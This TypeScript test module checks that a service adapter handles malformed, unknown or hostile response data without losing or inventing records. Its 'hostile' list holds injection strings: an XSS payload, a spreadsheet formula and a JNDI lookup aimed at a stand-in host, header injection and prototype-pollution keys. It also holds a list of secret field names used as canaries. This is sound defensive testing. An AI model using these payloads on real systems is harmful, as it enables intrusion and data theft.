import { isDeepStrictEqual } from 'node:util';
import type { SourceRecord } from '../../src/contract/records.ts';
import { freeForm, requiredFields, widerFields } from './exceptions.ts';
import { findListing, nameError, noSignal, placeName, type Bench, type Trial } from './bench.ts';
import type { Check } from './check.ts';
import { addEverywhere, setAt, getAt, showPath, type Path } from './json-walk.ts';
import { fieldsOf, instantsOf, judgeRecord } from './record-rules.ts';
import { canary, findLeak, findSecrets } from './secrets.ts';
import { byKey, fieldsOfEntry, findSpecimens, isId, keyOf, tryAnswer, type Specimen } from './specimen.ts';

/** Runs on every kind of entry that the service lists. */
const onSpecimens =
  (judge: (specimen: Specimen) => Promise<readonly string[]>) =>
  async (bench: Bench): Promise<readonly string[]> => {
    const failures: string[] = [];
    const specimens = await findSpecimens(bench);
    if (!specimens.some(({ main }) => main.kind === 'identity')) failures.push('no page lists accounts as objects with their ids');
    for (const specimen of specimens) {
      failures.push(...(await judge(specimen)).map((failure) => `${placeName(specimen.place)}: ${failure}`));
    }
    return failures;
  };

/** The entries beside the changed one are as before, and nothing new came; but for roles, which many entries may tell of. */
function judgeOthers({ place, own }: Specimen, { page }: Trial, allowNew = false): readonly string[] {
  if (page === undefined) return [];
  const [before, after, ownKeys] = [byKey(place.page.records), byKey(page.records), new Set(own.map(keyOf))];
  const failures: string[] = [];
  for (const [key, record] of before) {
    if (record.kind !== 'role' && !ownKeys.has(key) && !isDeepStrictEqual(after.get(key), record))
      failures.push(`another record (${key}) changed or vanished`);
  }
  for (const [key, record] of after) {
    if (!before.has(key) && record.kind !== 'role' && !allowNew) failures.push(`a record was made up (${key})`);
    failures.push(...judgeRecord(record).map((failure) => `breaks a rule: ${failure}`));
  }
  return [...new Set(failures)].slice(0, 3);
}

const strangers = (value: unknown): readonly (readonly [string, unknown])[] => [
  ['removed', undefined],
  ['null', null],
  ['of another type', typeof value === 'string' ? 7 : typeof value === 'number' ? 'seven' : typeof value === 'boolean' ? 'yes' : 'a text'],
  ['an object', {}],
];

async function judgeField(specimen: Specimen, path: Path, value: unknown): Promise<readonly string[]> {
  const failures: string[] = [];
  const { answer, place, main, entry } = specimen;
  const id = isId(specimen, value);
  for (const [name, stranger] of strangers(value)) {
    const trial = await tryAnswer(specimen, setAt(answer, path, stranger));
    const at = `${showPath(path.slice(entry.length))} ${name}`;
    if (trial.unfired) failures.push(`${at}: the fault never happened`);
    if (trial.page === undefined) failures.push(`${at}: the whole page fails with ${nameError(trial.error)}`);
    failures.push(...judgeOthers(specimen, trial, id || isWider(specimen, path)).map((failure) => `${at}: ${failure}`));
    const stays = trial.page?.records.some((record) => keyOf(record) === keyOf(main)) ?? true;
    if (stays) continue;
    const missing = (stranger === undefined || stranger === null) && typeof path.at(-1) === 'string' && !isRequired(specimen, path);
    if (missing && !id && !holdsId(specimen, value)) failures.push(`${at}: the ${main.kind} is lost`);
    else if (trial.page !== undefined && (await isLost(specimen, trial))) failures.push(`${at}: the ${main.kind} vanishes without being rejected`);
    if (place.page.records.length === 0) failures.push(`${at}: nothing to compare`);
  }
  return failures;
}

const isRequired = ({ bench, entry }: Specimen, path: Path): boolean =>
  requiredFields.some(({ type, field }) => type === bench.subject.type && field === showPath(path.slice(entry.length)));

const isWider = ({ bench, entry }: Specimen, path: Path): boolean =>
  widerFields.some(({ type, field }) => type === bench.subject.type && showPath(path.slice(entry.length)).startsWith(field));

/** Neither under its key, nor under another, nor rejected, nor asked for alone by the next page. */
async function isLost({ bench, place, main }: Specimen, { page }: Trial): Promise<boolean> {
  const count = (records: readonly SourceRecord[] = []): number => records.filter(({ kind }) => kind === main.kind).length;
  if (count(page?.records) >= count(place.page.records) || (page?.rejected.length ?? 0) > place.page.rejected.length) return false;
  if (page == null || page.next === null || page.next === place.page.next) return true;
  await using session = bench.open();
  await session.adapter.describe(noSignal());
  const next = await findListing(session.adapter, place.listing).page(page.next, noSignal());
  return !next.records.some((record) => keyOf(record) === keyOf(main));
}

/** An object or list in which the ids lie. */
const holdsId = (specimen: Specimen, value: unknown): boolean =>
  typeof value === 'object' && value !== null && Object.values(value).some((inner) => isId(specimen, inner) || holdsId(specimen, inner));

const secretNames = ['access_token', 'accessToken', 'refresh_token', 'api_key', 'apiKey', 'password', 'secret', 'client_secret', 'authorization'];
const namedSecrets = Object.fromEntries(secretNames.map((name) => [name, canary]));
const plainFields = {
  http_cal_url: `https://calendar.example/${canary}`,
  web_cal_url: `webcal://calendar.example/${canary}`,
  jwt: canary,
  zz_new_field: canary,
};

async function judgeUnknownFields(specimen: Specimen): Promise<readonly string[]> {
  const { answer, bench, place } = specimen;
  const isFree = freeForm.has(bench.subject.type);
  const { page, error } = await tryAnswer(specimen, addEverywhere(answer, isFree ? namedSecrets : { ...namedSecrets, ...plainFields }));
  const failures = isDeepStrictEqual(page, place.page) ? [] : [`the page is another: ${page ? 'records differ' : nameError(error)}`];
  const leak = findLeak(page, findSecrets(bench));
  if (leak !== undefined) failures.push(`a secret (${leak}) was kept`);
  const pollute = (json: string): string =>
    json.replaceAll('"zz_key":1', '"__proto__":{"zz_polluted":1},"constructor":{"prototype":{"zz_polluted":1}}');
  const polluting = await tryAnswer(specimen, addEverywhere(answer, { zz_key: 1 }), pollute);
  if (!isDeepStrictEqual(polluting.page, place.page)) failures.push('__proto__ as a key changes the page');
  return failures;
}

const newWord = 'ZETA_NEW_WORD';
const wordLike = /^[\p{L}][\p{L} _-]{1,40}$/u;

/** An unknown word in one field of all entries: what it decided becomes UNKNOWN, and the word is seen. */
async function judgeWord(specimen: Specimen, path: Path): Promise<readonly string[]> {
  const { answer, list, place, entry } = specimen;
  const rest = path.slice(entry.length);
  const entries = getList(answer, list).keys();
  const changed = [...entries].reduce<unknown>((at, index) => setIfWord(at, [...list, index, ...rest]), answer);
  const { page, error } = await tryAnswer(specimen, changed);
  const at = `${showPath(rest)} in an unknown word`;
  if (page === undefined) return [`${at}: the whole page fails with ${nameError(error)}`];
  const before = byKey(place.page.records);
  const failures = page.records.flatMap((record) => {
    const known = before.get(keyOf(record));
    const found: string[] = [];
    for (const name of ['level', 'status', 'accountKind'] as const) {
      const now = fieldsOf(record)[name];
      const then = known && fieldsOf(known)[name];
      if (known !== undefined && then !== now && now !== 'UNKNOWN') found.push(`${at}: ${name} became ${String(now)}`);
    }
    if (record.kind === 'grant' && record.role === newWord && record.level !== 'UNKNOWN') found.push(`${at}: a grant of level ${record.level}`);
    if (record.kind === 'role' && record.externalId === newWord && record.level !== 'UNKNOWN') found.push(`${at}: a role of level ${record.level}`);
    return found;
  });
  const decided = page.records.some((record) => {
    const known = before.get(keyOf(record));
    return known !== undefined && ['level', 'status', 'accountKind'].some((name) => fieldsOf(known)[name] !== fieldsOf(record)[name]);
  });
  if (decided && !JSON.stringify(page.records).includes(newWord)) failures.push(`${at}: the word is nowhere to be seen`);
  return [...new Set(failures)];
}

function getList(answer: unknown, list: Path): readonly unknown[] {
  const found = getAt(answer, list);
  return Array.isArray(found) ? found : [];
}

function setIfWord(answer: unknown, path: Path): unknown {
  return typeof getAt(answer, path) === 'string' ? setAt(answer, path, newWord) : answer;
}

const dayMs = 24 * 3600 * 1000;
const noDates = ['yesterday', '', '12', '9999-99-99T99:99:99Z', null, true, {}, [], -1e300] as const;
const markers = ['0001-01-01T00:00:00Z', '9999-12-31T23:59:59Z', 0, -62135596800] as const;
const looksLikeDate = (value: unknown): boolean =>
  (typeof value === 'string' && /^\d{4}-\d\d-\d\d[T ]/.test(value)) || (typeof value === 'number' && value > 1e9 && value < 1e13);

async function judgeDates(specimen: Specimen): Promise<readonly string[]> {
  const dates = fieldsOfEntry(specimen).filter(([, value]) => looksLikeDate(value));
  const failures: string[] = [];
  for (const bad of dates.length === 0 ? [] : [...noDates, ...markers]) {
    const answer = dates.reduce<unknown>((at, [path]) => setAt(at, path, bad), specimen.answer);
    const { page, error } = await tryAnswer(specimen, answer);
    const at = `dates as ${JSON.stringify(bad)}`;
    if (page === undefined) failures.push(`${at}: the whole page fails with ${nameError(error)}`);
    const after = byKey(page?.records ?? []);
    const plausible = bad === null || typeof bad === 'string' || typeof bad === 'number';
    if (page !== undefined && plausible && !after.has(keyOf(specimen.main))) failures.push(`${at}: the ${specimen.main.kind} is lost`);
    for (const record of specimen.own) {
      const then = new Map(instantsOf(record));
      for (const [name, instant] of instantsOf(after.get(keyOf(record)) ?? record)) {
        if (!after.has(keyOf(record)) || then.get(name) === instant) continue;
        const invented = noDates.some((one) => one === bad) || Math.abs(instant - Date.now()) < dayMs;
        if (invented) failures.push(`${at}: ${name} is ${new Date(instant).toISOString()}`);
      }
    }
  }
  return failures;
}

const hostile: readonly (readonly [string, string])[] = [
  ['__proto__', '__proto__'],
  ['a right-to-left mark', '\u202Egnp.exe'],
  ['NUL', 'a\u0000b'],
  ['a line break and an escape', 'a\r\nSet-Cookie: x\u001B[31m'],
  ['HTML', '<img src=x onerror=alert(1)>"\''],
  ['a formula', '=HYPERLINK("http://x.example","x")'],
  ['a template', '${jndi:ldap://x.example} {{7*7}} %s %n'],
  ['a lone surrogate', 'a\uD800b'],
  ['ten thousand letters', 'M'.repeat(10_000)],
];
const megabyte = 'M'.repeat(1_000_000);

async function judgeHostile(specimen: Specimen): Promise<readonly string[]> {
  const texts = fieldsOfEntry(specimen).filter(([, value]) => typeof value === 'string' && !isId(specimen, value));
  const failures: string[] = [];
  for (const [name, text] of hostile) {
    const answer = texts.reduce<unknown>((at, [path]) => setAt(at, path, text), specimen.answer);
    const trial = await tryAnswer(specimen, answer);
    if (trial.page === undefined) failures.push(`${name}: the whole page fails with ${nameError(trial.error)}`);
    failures.push(...judgeOthers(specimen, trial, true).map((failure) => `${name}: ${failure}`));
    const found = trial.page?.records.find((record) => keyOf(record) === keyOf(specimen.main));
    const lost = trial.page !== undefined && found === undefined && (specimen.main.kind === 'identity' || (await isLost(specimen, trial)));
    if (lost) failures.push(`${name}: the ${specimen.main.kind} is lost`);
    if (Reflect.get(Object.prototype, 'zz_polluted') !== undefined) failures.push(`${name}: reached Object.prototype`);
  }
  return failures;
}

/** The name alone, so that the words which say what the entry is stay what they are. */
async function judgeName(specimen: Specimen): Promise<readonly string[]> {
  const name = fieldsOf(specimen.main)['displayName'];
  const places = fieldsOfEntry(specimen).filter(([, value]) => value === name && !isId(specimen, value));
  const failures: string[] = [];
  for (const [what, text] of places.length === 0 ? [] : [...hostile, ['a megabyte', megabyte] as const]) {
    const answer = places.reduce<unknown>((at, [path]) => setAt(at, path, text), specimen.answer);
    const { page } = await tryAnswer(specimen, answer);
    const shown = fieldsOf(byKey(page?.records ?? []).get(keyOf(specimen.main)) ?? specimen.main)['displayName'];
    if (shown !== text) failures.push(`${what}: arrives changed as the name`);
  }
  return failures;
}

const unsafe = ['12345678901234567890', '12345678901234567891'] as const;

/** Two ids that are one number to JavaScript. */
async function judgeLargeIds(specimen: Specimen): Promise<readonly string[]> {
  const { answer, list, entry, main, place } = specimen;
  if (main.kind !== 'identity' && main.kind !== 'group') return [];
  const path = fieldsOfEntry(specimen)
    .find(([, value]) => String(value) === main.externalId)?.[0]
    .slice(entry.length);
  const entries = getList(answer, list);
  // an id made of several fields has no digits to lose
  if (path === undefined || entries.length < 2) return [];
  const marked = unsafe.reduce<unknown>((at, digits, index) => setAt(at, [...list, index, ...path], `#${digits}#`), answer);
  const { page, error } = await tryAnswer(specimen, marked, (json) => json.replaceAll(/"#(\d+)#"/g, '$1'));
  if (page === undefined) return [`ids beyond 2^53: the whole page fails with ${nameError(error)}`];
  const found = page.records.filter(({ kind }) => kind === main.kind).map(keyOf);
  const seen = unsafe.filter((digits) => found.includes(`${main.kind} ${digits}`)).length;
  const refused = page.rejected.filter(({ kind }) => kind === main.kind).length;
  const strange = found.filter((key) => !byKey(place.page.records).has(key) && !unsafe.some((digits) => key.endsWith(` ${digits}`)));
  return seen + refused >= unsafe.length && strange.length === 0
    ? []
    : [`ids beyond 2^53: ${seen} of 2 kept, ${refused} rejected, made up: ${strange.join(', ')}`];
}

const unlike = (value: unknown): boolean => typeof value === 'string' && wordLike.test(value);

export const driftChecks: readonly Check[] = [
  {
    id: 'P17 unknown fields',
    promise: 'fields that nobody knows, secrets among them, change nothing and are not kept',
    run: onSpecimens(judgeUnknownFields),
  },
  {
    id: 'P17 fields',
    promise: 'a field that is missing, null or of another type costs at most what it is the id of; the rest of the page goes on',
    run: onSpecimens(async (specimen) => {
      const failures: string[] = [];
      for (const [path, value] of fieldsOfEntry(specimen)) failures.push(...(await judgeField(specimen, path, value)));
      return failures;
    }),
  },
  {
    id: 'P17 bad entries',
    promise: 'an entry that is no object is rejected alone',
    run: onSpecimens(async (specimen) => {
      const failures: string[] = [];
      for (const nonsense of [null, 7, 'text', [], {}]) {
        const trial = await tryAnswer(specimen, setAt(specimen.answer, specimen.entry, nonsense));
        const at = `an entry ${JSON.stringify(nonsense)}`;
        if (trial.page === undefined) failures.push(`${at}: the whole page fails with ${nameError(trial.error)}`);
        else if (await isLost(specimen, trial)) failures.push(`${at}: vanishes without being rejected`);
        failures.push(...judgeOthers(specimen, trial).map((failure) => `${at}: ${failure}`));
        failures.push(...(trial.page?.rejected ?? []).filter(({ reason }) => reason.trim() === '').map(() => `${at}: rejected without a reason`));
      }
      return failures;
    }),
  },
  {
    id: 'P17 new words',
    promise: 'an unknown role, status or type reads as UNKNOWN with its word, never as something known',
    run: onSpecimens(async (specimen) => {
      const failures: string[] = [];
      for (const [path, value] of fieldsOfEntry(specimen)) if (unlike(value)) failures.push(...(await judgeWord(specimen, path)));
      return failures;
    }),
  },
  { id: 'P20 large ids', promise: 'two ids that collide as doubles stay two, or are refused', run: onSpecimens(judgeLargeIds) },
  { id: 'D12 dates', promise: 'a date that is none is absent, never now', run: onSpecimens(judgeDates) },
  {
    id: 'D13 hostile text',
    promise: 'hostile text arrives as data',
    run: onSpecimens(async (specimen) => [...(await judgeHostile(specimen)), ...(await judgeName(specimen))]),
  },
  {
    id: 'P11 short page',
    promise: 'a page shorter than asked for does not end the listing',
    run: onSpecimens(async (specimen) => {
      const { place } = specimen;
      if (place.page.next === null) return [];
      const { page, error } = await tryAnswer(specimen, setAt(specimen.answer, specimen.entry, undefined));
      if (page === undefined) return [`the page fails with ${nameError(error)}`];
      return page.next === null ? ['ends the listing'] : [];
    }),
  },
];
